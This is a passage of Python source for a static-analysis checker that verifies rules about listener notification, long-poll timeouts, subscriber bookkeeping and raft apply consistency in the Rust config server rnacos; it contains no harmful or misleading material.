                           'without %s.notify: a %s holding the previous md5 keeps waiting although the key changed' % (
                               what, 'long-poll' if what == 'listener' else 'gRPC subscriber'),
                           'notified unless the md5 comparison says unchanged')
    # every other ConfigActor function that mutates cache is a listed exception
    for b in fb.find('^' + re.escape(CA)):
        if b.parent or b.name in (CA + 'set_config', CA + 'del_config', CA + 'inner_set_config'):
            continue
        m = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::(insert|remove|get_mut|clear)$')
        if m:
            ck.require(b.name in EXC, 'R10a', 'other-mutator:%s' % b.name, b.where(), '%s changes stored values without notifying and is not a listed exception' % b.name, EXC.get(b.name, ''))
    dc = fb.bodies.get(CA + 'del_config')
    if dc:
        rk = util.mut_calls_on_field(dc, 'subscriber', re.escape(SB + 'remove_config_key') + '$', deep=1)
        sn = util.mut_calls_on_field(dc, 'subscriber', re.escape(SB + 'notify') + '$', deep=1)
        # if subscribers are forgotten at all, then only after they were told about the removal
        ck.require(bool(sn) and all(cfg.dominates_blocks(dc, {x.bb for x in sn}, r.bb) for r in rk), 'R10a', 'del_config:notify-before-forget', dc.where(),
                   'subscribers of a removed key are forgotten before they are notified')
        # ... and the property needs more: "notified of every later change (publish or remove) of every key it listens to" - a subscription must
        # survive the removal of the key, otherwise subscribe, remove, publish leaves the publish unreported
        ck.require(not rk, 'R10a', 'del_config:keeps-subscribers', rk[0].where() if rk else dc.where(),
                   'del_config drops the gRPC subscriptions of the removed key (Subscriber::remove_config_key): a client that subscribed, saw the key '
                   'removed and keeps its subscription is not told when the key is published again', 'subscriptions survive a remove')


def r10b(ck, fb):
    ck.rule('R10b', 'compare-and-register is atomic: Handler<ConfigCmd>::handle has no yield/await and returns a plain Result; in the '
                    'LISTENER arm listener.add and sender.send(DATA) are on complementary edges of one test over (changes.is_empty(), time)')
    h = ck.body(CMD_H, 'R10b')
    if not h:
        return
    ck.require(not any(b['t']['k'] == 'yield' for b in h.blocks) and not h.calls(r'IntoFuture::into_future$'), 'R10b', 'handle:synchronous', h.where(),
               'Handler<ConfigCmd>::handle awaits: compare and register are no longer one actor step')
    ck.require('Result<' in h.local_ty(0) and 'Future' not in h.local_ty(0) and 'Pin<' not in h.local_ty(0), 'R10b', 'handle:plain-result', h.where(),
               'Handler<ConfigCmd>::Result is a future type (%s)' % h.local_ty(0))
    add = util.mut_calls_on_field(h, 'listener', re.escape(CL + 'add') + '$')
    snd = [s for s in h.calls(r'oneshot::Sender::<T>::send$|OneshotSender::<T>::send$') if ('rnacos::config::core::ConfigCmd', 'LISTENER') in util.variant_guards(h, s.bb)]
    ck.require(len(add) == 1 and len(snd) == 1, 'R10b', 'LISTENER:add+send', h.where(), 'LISTENER arm does not have exactly one register and one immediate answer')
    if add and snd:
        a, s = add[0], snd[0]
        # complementary: neither reaches the other, and a common switch decides
        ra = cfg.reach_from(h, [a.bb])
        rs = cfg.reach_from(h, [s.bb])
        ck.require(s.bb not in ra and a.bb not in rs, 'R10b', 'LISTENER:exclusive', a.where(), 'a request can be both answered and registered')
        atoms_a = cfg.guard_atoms(h, a.bb)
        # register only if changes.is_empty() and time > 0
        ok_empty = any(x[0] == 'call' and (x[1] or '').endswith('is_empty') and x[2] is True for x in atoms_a)
        ok_time = any(x[0] == 'cmp' and x[1] in ('Le', 'Gt', 'Lt', 'Ge') for x in atoms_a)
        ck.require(ok_empty and ok_time, 'R10b', 'LISTENER:register-only-if-unchanged-and-time>0', a.where(),
                   'listener.add is not guarded by (changes.is_empty() && time > 0): %s' % [cfg.fmt_atom(x) for x in atoms_a])
        # the answer carries the computed changes
        agg = util.agg_of(h, s.args[1])
        ck.require(agg is not None and agg['variant'] == 'DATA', 'R10b', 'LISTENER:answers-DATA(changes)', s.where(), 'immediate answer is not ListenerResult::DATA(changes)')
        # the registered items/sender/time are the request's
        for idx, nm in ((1, 'items'), (2, 'sender'), (3, 'time')):
            d = cfg.describe_operand(h, a.args[idx])
            ck.require(d['k'] in ('place', 'multi', 'unknown'), 'R10b', 'LISTENER:add(%s)' % nm, a.where(), 'listener.add argument %s is %s' % (nm, cfg.fmt_desc(d)))


def _compare_shape(ck, h, arm, rule):
    """in the given arm - or in a helper of the config module that the arm calls (extract-method) - changes.push under
    (Some(v) && v.md5 != item.md5) or (None && !item.md5.is_empty())"""
    fb = h.facts
    ARM = ('rnacos::config::core::ConfigCmd', arm)
    cands = [(h, lambda s: ARM in util.variant_guards(h, s.bb))]
    for s in h.sites:
        if s.callee and ARM in util.variant_guards(h, s.bb):
            hb = fb.bodies.get(s.resolved or s.callee)
            if hb is not None and not hb.parent and hb.name.startswith('rnacos::config::') and hb is not h:
                cands.append((hb, lambda s: True))
    x, flt = h, cands[0][1]
    for (cb, cf) in cands:
        if [s for s in cb.calls(r'Vec::<T, A>::push$') if cf(s)]:
            x, flt = cb, cf
            break
    pushes = [s for s in x.calls(r'Vec::<T, A>::push$') if flt(s)]
    ck.require(len(pushes) >= 2, rule, '%s:two-change-sources' % arm, x.where(), '%s arm has %d change pushes (expected: md5 differs, and missing key with non-empty md5)' % (arm, len(pushes)))
    kinds = set()
    for s in pushes:
        atoms = cfg.guard_atoms(x, s.bb)
        def on_get(a):
            return 'HashMap' in cfg.fmt_desc(a[3])
        some = any(a[0] == 'variant' and a[2] == 'Some' and on_get(a) for a in atoms)
        none = any(a[0] == 'variant' and a[2] == 'None' and on_get(a) for a in atoms)
        ne = [a for a in atoms if a[0] == 'call' and re.search(r'::(ne|eq)$', a[1] or '')]
        emp = [a for a in atoms if a[0] == 'call' and (a[1] or '').endswith('is_empty')]
        if some and ne:
            a = ne[0]
            pol_changed = (a[1].endswith('ne') and a[2] is True) or (a[1].endswith('eq') and a[2] is False)
            srcs = [cfg.origin_fields(x, y)[-1:] for y in a[3]['args']]
            if pol_changed and srcs == [['md5'], ['md5']]:
                kinds.add('differs')
        if emp and none and not some:
            a = emp[0]
            if a[2] is False and cfg.origin_fields(x, a[3]['args'][0])[-1:] == ['md5']:
                kinds.add('missing')
    ck.require(kinds == {'differs', 'missing'}, rule, '%s:comparison' % arm, x.where(),
               'the %s comparison recognises %s (expected: stored md5 != held md5, and missing key with non-empty held md5)' % (arm, sorted(kinds)))
    # the stored value comes from cache.get(item.key)
    gets = [s for s in util.mut_calls_on_field(x, 'cache', r'HashMap::<K, V, S, A>::get$') if flt(s)]
    ck.require(len(gets) >= 1 and all(cfg.origin_fields(x, g.args[1])[-1:] == ['key'] for g in gets), rule, '%s:lookup-by-item-key' % arm, x.where(), 'the comparison does not look up item.key')


def r10c(ck, fb):
    ck.rule('R10c', 'comparison inputs: LISTENER and Subscribe arms compare cache.get(item.key).md5 with item.md5 (changed if different) '
                    'and treat a missing key with non-empty md5 as changed; Subscribe registers before answering ChangeKey')
    h = ck.body(CMD_H, 'R10c')
    if not h:
        return
    _compare_shape(ck, h, 'LISTENER', 'R10c')
    _compare_shape(ck, h, 'Subscribe', 'R10c')
    add = [s for s in util.mut_calls_on_field(h, 'subscriber', re.escape(SB + 'add_subscribe') + '$')]
    ck.require(len(add) >= 1, 'R10c', 'Subscribe:add_subscribe', h.where(), 'Subscribe does not register')
    ck_agg = h.aggregates(r'config::core::ConfigResult$', 'ChangeKey')
    if add and ck_agg:
        ck.require(cfg.dominates_blocks(h, {add[0].bb}, ck_agg[0][0]), 'R10c', 'Subscribe:register-before-answer', h.where(ck_agg[0][0]), 'ChangeKey can be answered without the subscription being registered')
        ck.require(not [a for a in cfg.guard_atoms(h, add[0].bb) if a[0] == 'call' and (a[1] or '').endswith('is_empty')], 'R10c', 'Subscribe:register-unconditionally', add[0].where(),
                   'the subscription is only registered when nothing changed')


def r10d(ck, fb):
    ck.rule('R10d', 'timeout driver: ConfigActor::started calls hb; the run_later closure of hb calls listener.timeout and hb again on '
                    'every path; ConfigListener::timeout answers NULL to every sender whose time key is < now and removes those keys')
    st = fb.impls(r'^actix::Actor$', r'config::core::ConfigActor$', None, 'started')
    ck.require(len(st) == 1 and len(st[0].calls(re.escape(CA + 'hb') + '$')) == 1, 'R10d', 'started->hb', st[0].where() if st else '-', 'ConfigActor::started does not start the timeout driver')
    hb = ck.body(CA + 'hb', 'R10d')
    if hb:
        rl = hb.calls(r'AsyncContext::run_later$')
        ck.require(len(rl) >= 1, 'R10d', 'hb:run_later', hb.where(), 'hb does not schedule itself with run_later')
        cl = fb.tree(CA + 'hb')[1:]
        ok = False
        for c in cl:
            ck.analysed(c)
            to = c.calls(re.escape(CL + 'timeout') + '$')
            re_ = c.calls(re.escape(CA + 'hb') + '$')
            if to and re_:
                rets = c.return_blocks()
                ok = all(not (set(rets) & cfg.reach_from(c, [0], blocked_blocks={x.bb})) for x in (to[0], re_[0]))
        ck.require(ok, 'R10d', 'hb:closure-times-out-and-rearms', hb.where(), 'the periodic closure does not call listener.timeout and hb on every path')
    t = ck.body(CL + 'timeout', 'R10d')
    if t:
        snd = t.calls(r'oneshot::Sender::<T>::send$|OneshotSender::<T>::send$')
        rm = util.mut_calls_on_field(t, 'sender_map', r'HashMap::<K, V, S, A>::remove$')
        tr = util.mut_calls_on_field(t, 'time_listener', r'BTreeMap::<K, V, A>::remove$')
        ck.require(len(snd) == 1 and len(rm) == 1 and len(tr) == 1, 'R10d', 'timeout:answers-and-cleans', t.where(), 'timeout does not answer senders and drop expired time keys')
        if snd:
            a = util.agg_of(t, snd[0].args[1])
            ck.require(a is not None and a['variant'] == 'NULL', 'R10d', 'timeout:answers-NULL', snd[0].where(), 'a timed-out long-poll is not answered with NULL')
            atoms = cfg.guard_atoms(t, snd[0].bb)
            ok = any(x[0] == 'cmp' and x[1] in ('Lt', 'Le', 'Gt', 'Ge') for x in atoms)
            ck.require(ok, 'R10d', 'timeout:only-expired', snd[0].where(), 'senders are answered without comparing their time with now')
    lh = ck.body(CMD_H, 'R10d')


def r10e(ck, fb):
    ck.rule('R10e', 'ConfigListener::add registers the version under every key, stores the sender and the time entry; notify removes the key '
                    'entry and answers each still-registered sender; Subscriber mutators touch both maps (listener, client_keys)')
    a = ck.body(CL + 'add', 'R10e')
    if a:
        MAPOP = r'(HashMap::<K, V, S, A>|BTreeMap::<K, V, A>)::(insert|get_mut|entry)$'
        # the three updates may live in private helpers of ConfigListener (extract-method): look through the region of add()
        reg = util.region(fb, a)
        w_l = [(x, s) for x in reg for s in util.mut_calls_on_field(x, 'listener', MAPOP)]
        w_s = [(x, s) for x in reg for s in util.mut_calls_on_field(x, 'sender_map', MAPOP)]
        w_t = [(x, s) for x in reg for s in util.mut_calls_on_field(x, 'time_listener', MAPOP)]
        ck.require(len(w_l) >= 1 and len(w_s) >= 1 and len(w_t) >= 1, 'R10e', 'add:three-indexes', a.where(), 'ConfigListener::add does not update listener, sender_map and time_listener')
        # the per-key registration is inside the loop over items
        inl = [s for (x, s) in w_l if x.blocks[s.bb]['t'].get('t') is not None and s.bb in cfg.reach_from(x, [x.blocks[s.bb]['t']['t']])]
        ck.require(bool(inl), 'R10e', 'add:every-key', a.where(), 'not every key of the request is registered')
        ck.require('version' in util.assigned_fields(a), 'R10e', 'add:new-version', a.where(), 'registrations share a version id')
        for (x, s) in w_s:
            ck.require(not any(y[0] in ('cmp', 'call') for y in cfg.guard_atoms(x, s.bb)), 'R10e', 'add:sender-stored-unconditionally', s.where(), 'the sender is stored only conditionally')
        # the sender stored is the one of this request, under the new version
        ins = [s for (x, s) in w_s if x is a and s.callee.endswith('insert')]
        if ins:
            t = Taint(a, local_src=[3])
            ck.require(t.op_tainted(ins[0].args[2]), 'R10e', 'add:stores-this-sender', ins[0].where(), 'the stored sender is not the request\'s sender')
    n = ck.body(CL + 'notify', 'R10e')
    if n:
        rm = util.mut_calls_on_field(n, 'listener', r'HashMap::<K, V, S, A>::remove$')
        sr = util.mut_calls_on_field(n, 'sender_map', r'HashMap::<K, V, S, A>::remove$')
        snd = n.calls(r'oneshot::Sender::<T>::send$|OneshotSender::<T>::send$')
        ck.require(len(rm) == 1 and len(sr) == 1 and len(snd) == 1, 'R10e', 'notify:shape', n.where(), 'notify does not take the key entry, take each sender and answer it')
        if snd:
            ag = util.agg_of(n, snd[0].args[1])
            ck.require(ag is not None and ag['variant'] == 'DATA', 'R10e', 'notify:answers-DATA', snd[0].where(), 'notify does not answer DATA')
            ck.require(snd[0].bb in cfg.reach_from(n, [n.blocks[snd[0].bb]['t']['t']]), 'R10e', 'notify:every-listener', snd[0].where(), 'only one listener of the key is answered')
    for fn, need in (('add_subscribe', {'listener', 'client_keys'}), ('remove_subscribe', {'listener', 'client_keys'}),
                     ('remove_client_subscribe', {'listener', 'client_keys'}), ('remove_config_key', {'listener', 'client_keys'})):
        b = ck.body(SB + fn, 'R10e')
        if not b:
            continue
        touched = set()
        for s in b.calls(r'(HashMap::<K, V, S, A>|HashSet::<T, S, A>)::(insert|remove|get_mut|entry)$'):
            rf = util.recv_fields(b, s)
            for f in rf:
                if f in need:
                    touched.add(f)
        ck.require(need <= touched, 'R10e', 'Subscriber::%s:mirrors' % fn, b.where(), 'Subscriber::%s updates only %s of (listener, client_keys)' % (fn, sorted(touched)), sorted(touched))
    sn = ck.body(SB + 'notify', 'R10e')
    if sn:
        sd = util.sends(sn, r'BiStreamManageCmd$', 'NotifyConfig')
        ck.require(len(sd) >= 1, 'R10e', 'Subscriber::notify:NotifyConfig', sn.where(), 'subscribers are not notified through NotifyConfig')
        if sd:
            t = Taint(sn, place_src=field_place_src('listener'))
            a = sd[0][3]
            ck.require(t.op_tainted(a['ops'][1]), 'R10e', 'Subscriber::notify:client-set', sd[0][0].where(), 'the notified client set is not the key\'s subscriber set')


def r10f(ck, fb):
    ck.rule('R10f', 'Subscriber removers (remove_subscribe, remove_client_subscribe, remove_config_key): one member is taken out of a per-key / '
                    'per-client set unconditionally (no size test in front of HashSet::remove), and a whole map entry is scheduled for removal '
                    '(Vec::push of the key / a flag set to true) only under set.is_empty() == true evaluated after that removal - otherwise an '
                    'unsubscribe by one client (or by a client that never subscribed) drops the other subscribers of the key')
    n_drop = 0
    for fn in ('remove_subscribe', 'remove_client_subscribe', 'remove_config_key'):
        b = ck.body(SB + fn, 'R10f')
        if not b:
            continue
        rms = b.calls(r'HashSet::<T, S, A>::remove$')
        ck.require(len(rms) >= 1, 'R10f', '%s:removes-member' % fn, b.where(), '%s no longer removes the member from the set' % fn)
        for s in rms:
            sized = [cfg.fmt_atom(a) for a in cfg.guard_atoms(b, s.bb)
                     if (a[0] == 'cmp' and ('len' in cfg.fmt_desc(a[2]) or 'len' in cfg.fmt_desc(a[3]))) or (a[0] == 'call' and (a[1] or '').endswith('is_empty'))]
            ck.require(not sized, 'R10f', '%s:member-removal-unconditional' % fn, s.where(),
                       'the member is only removed when %s: in the other case the entry is handled as if this member were the last one' % sized)
        drops = []
        for s in b.calls(r'Vec::<T, A>::push$|Vec::<.*>::push$'):
            drops.append((s.bb, s.where()))
        for (i, j, st) in b.stmts():
            rv = st.get('rv')
            if isinstance(st.get('d'), int) and rv and rv['k'] == 'use' and 'c' in rv['op'] and rv['op']['c'].get('ty') == 'bool' \
                    and rv['op']['c'].get('v') in (True, 'true', 1) and b.local_ty(st['d']) == 'bool' and b.locals[st['d']].get('n'):
                drops.append((i, b.where(i)))
        for (bb, where) in drops:
            n_drop += 1
            g = [a for a in cfg.guard_atoms(b, bb) if a[0] == 'call' and (a[1] or '').endswith('HashSet::<T, S, A>::is_empty') and a[2] is True]
            ok = bool(g)
            # the emptiness test follows a member removal on the same path
            if ok:
                tb = g[0][4] if len(g[0]) > 4 else None
                ok = any(bb in cfg.reach_from(b, [r.bb]) for r in rms)
            ck.require(ok, 'R10f', '%s:drop-only-when-empty' % fn, where,
                       'a whole entry is scheduled for removal without set.is_empty() having been found true after the member was removed')
    ck.floor('R10f', 'whole-entry drop sites', n_drop, 4)


def r10g(ck, fb):
    ck.rule('R10g', 'a registration is not undone inside ConfigListener::add: nothing removes ids from a per-key listener list (retain / remove / '
                    'clear / pop / truncate / drain) before the new id\'s sender has been stored in sender_map. Pruning by "has a sender" in front of '
                    'that insert throws the id that was just pushed away: a second long-poll on a key is then never woken by a publish')
    a = ck.body(CL + 'add', 'R10g')
    if not a:
        return
    ins = util.mut_calls_on_field(a, 'sender_map', r'(HashMap::<K, V, S, A>|BTreeMap::<K, V, A>)::insert$')
    ck.floor('R10g', 'sender_map.insert in add', len(ins), 1)
    prunes = []
    for x in util.region(fb, a):
        for s0 in x.calls(r'Vec::<T, A>::(retain|remove|clear|pop|truncate|drain|swap_remove|dedup)'):
            prunes.append((x, s0))
    for (x, s0) in prunes:
        ok = x is a and any(cfg.dominates_blocks(a, {i.bb}, s0.bb) for i in ins)
        ck.require(ok, 'R10g', 'add:no-prune-before-sender-stored', s0.where(),
                   'ids are removed from a listener list inside add() before the new sender is in sender_map (%s)' % s0.callee.split('::')[-1])
    ck.ok('R10g', 'add:prune-sites', a.where(), '%d' % len(prunes))


def r10h(ck, fb, R='R10h'):
    ck.rule(R, 'a long-poll stays registered under each of its keys until it is answered: among the methods of ConfigListener only notify (which '
               'answers the ids it takes) removes anything from the key -> listener-ids map; timeout answers by sender and leaves the ids to the '
               'next notify of their key. A clean-up elsewhere that drops ids by age / by value un-registers polls that are still waiting (a '
               '60 s poll registered before a 50 ms poll is dropped with it and never hears of the publish)')
    n = 0
    for b in fb.find('^' + re.escape(CL)):
        if b.parent:
            continue
        n += 1
        if b.name == CL + 'notify':
            continue
        bad = []
        for x in util.region(fb, b):
            if x.name.startswith(CL + 'notify'):
                continue
            for s0 in util.mut_calls_on_field(x, 'listener', r'(HashMap::<K, V, S, A>|BTreeMap::<K, V, A>)::(remove|retain|clear|drain|remove_entry|extract_if)$'):
                bad.append(s0)
            # pruning of a per-key id list reached through the map (get_mut / values_mut / the retain closure)
            for s0 in x.calls(r'Vec::<T, A>::(retain|remove|clear|pop|truncate|drain|swap_remove|dedup)'):
                if b.name == CL + 'add':
                    continue        # judged by R10g
                ty = x.local_ty(op_place_local(s0.args[0])) if s0.args else ''
                if 'u64' in (ty or ''):
                    bad.append(s0)
        ck.require(not bad, R, '%s:keeps-registrations' % b.name.split('::')[-1], bad[0].where() if bad else b.where(),
                   '%s removes listener ids from the key map although it does not answer them (%s): a poll that is still waiting is un-registered '
                   'and is not told when its key changes' % (b.name, sorted(set(x.callee.split('::')[-1] for x in bad))), 'removes nothing')
    ck.floor(R, 'ConfigListener methods', n, 4)


def op_place_local(op):
    from rn.facts import op_place, pl_local
    p = op_place(op)
    return pl_local(p) if p is not None else -1


def r10i(ck, fb, R='R10i'):
    ck.rule(R, '"notified of every later change": ConfigListener::notify answers EVERY long-poll registered for the key - the loop over the key\'s '
               'id list has no way out other than the end of the list (no break / return inside it), so an id whose sender is already gone (answered for '
               'another key, timed out) only skips itself. The id list is in registration order, not in expiry order: stopping at the first dead id '
               'leaves the older polls waiting on the stale md5 until their timeout')
    b = ck.body('rnacos::config::core::ConfigListener::notify', R)
    if not b:
        return
    snd = [x for x in b.sites if re.search(r'oneshot::Sender::<T>::send$|Sender.*::send$', x.callee or '')]
    ck.floor(R, 'answers sent in ConfigListener::notify', len(snd), 1)
    for s0 in snd:
        ex = util.loop_early_exits(b, s0.bb)
        ck.require(ex is not None, R, 'notify:answers-in-a-loop', s0.where(), 'the answer is not sent from a loop over the registered ids')
        if ex is not None:
            ck.require(not ex, R, 'notify:visits-every-id', b.where(ex[0][0]) if ex else s0.where(),
                       'the loop over the ids registered for the key can be left before the end of the list (edges %s): the remaining long-polls of the key are '
                       'not answered for this change' % ex, 'no early exit')


def r10j(ck, fb, R='R10j'):
    ck.rule(R, 'a listener is registered for the key it names: the `Listening-Configs` value is dataId ^2 group ^2 md5 [^2 tenant] ^1, and the md5 of a '
               'config that does not exist yet is the EMPTY word. In ListenerItem::decode_listener_items / decode_listener_change_keys a word that ends at '
               'a ^2 separator is recorded whether or not it is empty: the push onto the word list is decided only by comparisons with constants (the '
               'separator byte, the number of words so far) and by the loop itself. Dropping an empty word shifts the tenant into the md5 position: a '
               'long-poll on a not-yet-published key of a non-default namespace is answered at once for the wrong key and never registered for its own '
               '- the first publish goes unreported')
    LI = 'rnacos::config::core::ListenerItem::'
    n = 0
    for fn in ('decode_listener_items', 'decode_listener_change_keys'):
        b = ck.body(LI + fn, R)
        if not b:
            continue
        pushes = [s0 for s0 in b.calls(r'Vec::<T, A>::push$') if 'String' in (b.local_ty(s0.args[1]['mv'] if isinstance(s0.args[1], dict) and 'mv' in s0.args[1] and isinstance(s0.args[1]['mv'], int) else -1) or '')
                  or 'std::string::String' in str(s0.gargs)]
        pushes = pushes or [s0 for s0 in b.calls(r'Vec::<std::string::String>::push$|Vec::<T, A>::push$') if any('String' in g for g in (s0.gargs or []))]
        ck.floor(R, 'word pushes in %s' % fn, len(pushes), 1)
        for s0 in pushes:
            n += 1
            bad = None
            for a in cfg.guard_atoms(b, s0.bb):
                if a[0] == 'cmp':
                    if a[2]['k'] != 'const' and a[3]['k'] != 'const':
                        bad = 'a comparison of two values (%s %s %s)' % (cfg.fmt_desc(a[2]), a[1], cfg.fmt_desc(a[3]))
                elif a[0] in ('variant', 'notvariant'):
                    root = a[3].get('root', a[3]) if isinstance(a[3], dict) else {}
                    d0 = a[3] if a[3].get('k') == 'call' else root
                    nm = cfg.callee_name(d0['term']) if d0.get('k') == 'call' else ''
                    if not (nm or '').endswith('::next'):
                        bad = 'the answer of %s' % ((nm or 'a test').split('::')[-1])
                elif a[0] == 'call' and not (a[1] or '').endswith('::next'):
                    bad = 'the answer of %s' % ((a[1] or '').split('::')[-1])
            ck.require(bad is None, R, '%s:empty-word-is-a-word' % fn, s0.where(),
                       'whether a word of the listener string is recorded depends on %s: an empty word (the md5 of a config that does not exist yet) is dropped and '
                       'the words behind it move up - the tenant is read as md5, the key is looked up in the default namespace' % bad, 'decided by constants only')
    ck.floor(R, 'word pushes judged', n, 2)
