"""C07 Leader apply, follower replication and restart replay yield the same state."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src

RD = 'rnacos::raft::filestore::raftdata::RaftDataHandler::'
RA = 'rnacos::raft::filestore::raftapply::'
CR = 'rnacos::raft::store::ClientRequest'
FNS = ['apply_log_to_state_machine', 'do_send_log', 'load_log']


def canon(b, op, depth=0):
    """canonical description of where a message field comes from: request field path, constant, aggregate or call tree"""
    d = cfg.describe_operand(b, op)
    return canon_desc(b, d, depth)


def canon_desc(b, d, depth=0):
    if depth > 6:
        return '...'
    k = d['k']
    if k == 'place':
        fs = [f for f in d['fields']]
        # drop the coroutine upvar index (captured `req`) and tuple positions of the capture
        root = d['root']
        if root['k'] == 'arg' and fs and fs[0].isdigit() and b.parent:
            fs = fs[1:]
        if root['k'] in ('call',):
            return 'field(%s of %s)' % ('.'.join(fs), canon_desc(b, root, depth + 1))
        return 'req.' + '.'.join(fs)
    if k == 'arg':
        return 'arg%d' % d['l']
    if k == 'const':
        c = d['c']
        return 'const(%s)' % (c.get('v', c.get('s', c.get('name', c.get('ty')))))
    if k == 'agg':
        rv = d['rv']
        if rv.get('ak') == 'adt':
            return '%s::%s(%s)' % (rv['adt'].split('::')[-1], rv['variant'], ','.join(canon(b, o, depth + 1) for o in rv['ops']))
        return rv.get('ak', 'agg')
    if k == 'call':
        t = d['term']
        name = (cfg.callee_name(t) or '?')
        if name in cfg.PASS_THROUGH and t['args']:
            return canon(b, t['args'][0], depth + 1)
        return '%s(%s)' % (name.split('::<')[0].split('::')[-1] if '<' not in name.split('::')[-1] else name, ','.join(canon(b, a, depth + 1) for a in t['args']))
    if k == 'discr':
        return 'discr'
    if k == 'multi':
        return 'local%d' % d.get('l', -1)
    return k


def normal_forms(ck, fb, fn):
    b = fb.main(RD + fn)
    ck.analysed(b)
    out = {}
    for (s, msg, v, a) in util.sends(b):
        vg = [x[1] for x in util.variant_guards(b, s.bb) if x[0] == CR]
        if len(vg) != 1:
            ck.bad('R07a', '%s:send-outside-arm:%s' % (fn, msg), s.where(), 'a message %s is sent outside a single ClientRequest arm (%s)' % (msg, vg))
            continue
        if a:
            fm = tuple((f, canon(b, o)) for f, o in zip(a['fields'], a['ops']))
        else:
            fm = (('<msg>', canon(b, s.args[1])),)
        out.setdefault(vg[0], []).append((s.gargs[0], msg, v, fm, s))
    return b, out


def run(ck, fb):
    _run0(ck, fb)
    r07f(ck, fb)
    r07g(ck, fb)
    r07j(ck, fb)
    r07k(ck, fb)
    r07m(ck, fb)
    r07n(ck, fb)
    ck.borrow('rules.c16', {'R16h': 'R07o'}, 'the deadline of a cache entry is a function of the committed entry (ttl + the time stamp it carries), not of the moment a node applies it: a replay or a late follower would otherwise keep the entry after the leader dropped it')
    ck.borrow('rules.c09', {'R09c': 'R07i', 'R09p': 'R07l'}, 'the replicated publish is a no-op only when the node already holds that content as APPLIED content: a follower that holds it as temporary value must record it like the leader does')
    ck.borrow('rules.c01', {'R01n': 'R07h'}, 'the start-up replay path must decide a request as the live apply path did: an index that only load_completed builds is empty during the replay')


def _run0(ck, fb):
    ck.explanation = (
        'Decides that the three hand-written copies of the state-machine dispatch (leader apply_log_to_state_machine, follower '
        'do_send_log, start-up load_log) are the same function of the request: for each of the ClientRequest variants (all covered, no '
        'wildcard) each copy sends the same message type, constructed variant and field mapping to the same actor; that both runtime '
        'paths record last-applied from the request index; that the follower path keeps the batch order (plain loop, per-actor '
        'mailboxes, nothing spawned); and that every ClientRequest variant can actually be produced by the log decoder.')
    ck.undecided = 'Does not decide that each actor handler is a deterministic function of its message sequence (see C09/C11/C19 clauses).'
    variants = fb.variants(CR)
    ck.floor('R07a', 'ClientRequest variants', len(variants), 11)
    ck.rule('R07a', 'exhaustive: each copy has an arm that sends a message for every ClientRequest variant')
    ck.rule('R07b', 'sibling agreement: per variant the (actor, message type, constructed variant, message-field <- request-field mapping) '
                    'is identical in the three copies; send vs do_send and .ok() vs ?? are abstracted away')
    forms = {}
    bodies = {}
    for fn in FNS:
        if not fb.has(RD + fn):
            ck.body(RD + fn, 'R07a')
            return
        bodies[fn], forms[fn] = normal_forms(ck, fb, fn)
    for v in variants:
        for fn in FNS:
            got = forms[fn].get(v, [])
            lead = forms[FNS[0]].get(v, [])
            if fn == 'load_log' and not got and len(lead) == 1 and str(lead[0][0]).endswith('RaftIndexManager'):
                # the effect of this variant is a write of the catalogue (index file), which is its own durable store: the start-up replay
                # restores the memory of the actors, and re-saving old catalogue values would take the file back through its history (R05n)
                ck.ok('R07a', '%s:%s' % (fn, v), bodies[fn].where(), 'catalogue write (%s): not replayed' % lead[0][2])
                continue
            ck.require(len(got) >= 1, 'R07a', '%s:%s' % (fn, v), bodies[fn].where(),
                       '%s has %d sends for ClientRequest::%s (expected exactly one)' % (fn, len(got), v), 'one send')
        ref = forms[FNS[0]].get(v, [])
        for fn in FNS[1:]:
            got = forms[fn].get(v, [])
            if len(ref) == 1 and len(got) == 1:
                a, g = ref[0], got[0]
                same = a[:4] == g[:4]
                diff = ''
                if not same:
                    if a[0] != g[0]:
                        diff = 'actor %s vs %s' % (a[0], g[0])
                    elif a[1] != g[1] or a[2] != g[2]:
                        diff = 'message %s::%s vs %s::%s' % (a[1], a[2], g[1], g[2])
                    else:
                        da, dg = dict(a[3]), dict(g[3])
                        diff = '; '.join('%s <- %s vs %s' % (k, da.get(k), dg.get(k)) for k in sorted(set(da) | set(dg)) if da.get(k) != dg.get(k))
                ck.require(same, 'R07b', '%s~%s:%s' % (FNS[0], fn, v), g[4].where(),
                           'ClientRequest::%s is applied differently by %s and %s: %s' % (v, FNS[0], fn, diff),
                           '%s::%s %s' % (a[1].split('::')[-1], a[2], dict(a[3])))
    # leader path awaits the result and propagates errors; follower path must not await (order by mailbox)
    ck.rule('R07c', 'both runtime paths record last-applied from the request index (ApplyRequest -> SaveLastAppliedLog(request.index); '
                    'ApplyBatchRequest -> last index of the batch)')
    b = fb.main(RA + 'StateApplyManager::async_apply_request_to_state_machine')
    ck.analysed(b)
    sv = util.sends(b, r'RaftIndexRequest$', 'SaveLastAppliedLog')
    ck.require(len(sv) >= 1, 'R07c', 'leader:SaveLastAppliedLog', b.where(), 'leader apply path does not record last-applied')
    if sv:
        t = Taint(b, place_src=field_place_src('index'))
        ck.require(t.op_tainted(sv[0][3]['ops'][0]), 'R07c', 'leader:index', sv[0][0].where(), 'recorded value is not request.index')
    hname = '<rnacos::raft::filestore::raftapply::StateApplyManager as actix::Handler<rnacos::raft::filestore::raftapply::StateApplyRequest>>::handle'
    h = ck.body(hname, 'R07c')
    h = util.body_with_call(fb, h, r'StateApplyManager::apply_request_to_state_machine$')    # the batch loop may live in a helper
    if h:
        ck.analysed(h)
    if h:
        sv = util.sends(h, r'RaftIndexRequest$', 'SaveLastAppliedLog')
        ck.require(len(sv) >= 1, 'R07c', 'follower:SaveLastAppliedLog', h.where(), 'follower batch path does not record last-applied')
        lw = [(bb, st) for (o, f, bb, st) in h.field_writes() if f == 'last_applied_log']
        t = Taint(h, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('::last'))
        from rn.facts import rv_operands
        ck.require(bool(lw) and all(any(Taint(h, place_src=field_place_src('index')).op_tainted(x) for x in rv_operands(st['rv'])) for bb, st in lw),
                   'R07c', 'follower:last-of-batch', h.where(), 'last_applied_log is not taken from the index of a batch element')
        ck.require(len(h.calls(r'::last$')) >= 1, 'R07c', 'follower:uses-last', h.where(), 'last applied is not the LAST element of the batch')
        ck.rule('R07d', 'order preservation on the follower path: the batch is consumed by into_iter() in a plain loop (no rev/sort/spawn), '
                        'do_send_log only uses do_send into actor mailboxes and returns errors before sending')
        it = h.calls(r'IntoIterator>::into_iter$')
        bad = h.calls(r'Iterator>::rev$|::sort|::reverse$|tokio::spawn|actix_rt::spawn|ContextFutureSpawner::spawn')
